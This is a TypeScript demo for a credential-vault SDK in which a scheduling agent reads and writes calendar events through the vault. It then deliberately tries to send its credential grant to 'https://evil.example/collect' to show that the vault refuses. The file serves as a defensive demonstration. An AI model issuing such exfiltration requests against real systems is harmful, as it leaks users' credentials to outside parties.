import { AlterVault, BackendError, CallerType, HttpMethod } from "@alter-vault/sdk";

/** What an agent's author writes. It has an API key of the vault, and no token of the provider. */
export interface AgentReport {
  readonly runId: string;
  readonly read: unknown;
  readonly wrote: unknown;
  /** The code of the refusal when it tried to take the credential elsewhere. */
  readonly refused: string;
}

export async function runAgent(
  vaultUrl: string,
  apiKey: string,
  grantId: string,
  calendar: string,
): Promise<AgentReport> {
  const runId = crypto.randomUUID();
  const vault = new AlterVault({
    apiKey,
    baseUrl: vaultUrl,
    caller: { type: CallerType.AGENT, identifier: "scheduling-bot", version: "1.0.0" },
    framework: "demo",
  });
  const threadId = "thread-monday";
  try {
    const read = await vault.request(HttpMethod.GET, `${calendar}/calendars/{calendarId}/events`, {
      grantId,
      pathParams: { calendarId: "primary" },
      queryParams: { maxResults: 10 },
      runId,
      threadId,
      toolCallId: "call_1",
    });
    const wrote = await vault.request(HttpMethod.POST, `${calendar}/calendars/primary/events`, {
      grantId,
      json: { title: "Lunch", at: "12:00" },
      reason: "The user asked for lunch at noon",
      runId,
      threadId,
      toolCallId: "call_2",
    });
    const refused = await vault
      .request(HttpMethod.GET, "https://evil.example/collect", { grantId, runId, threadId, toolCallId: "call_3" })
      .then(() => "nothing: it went through")
      .catch((error: unknown) => (error instanceof BackendError ? error.code : String(error)));
    return { runId, read: await read.json(), wrote: await wrote.json(), refused };
  } finally {
    await vault.close();
  }
}
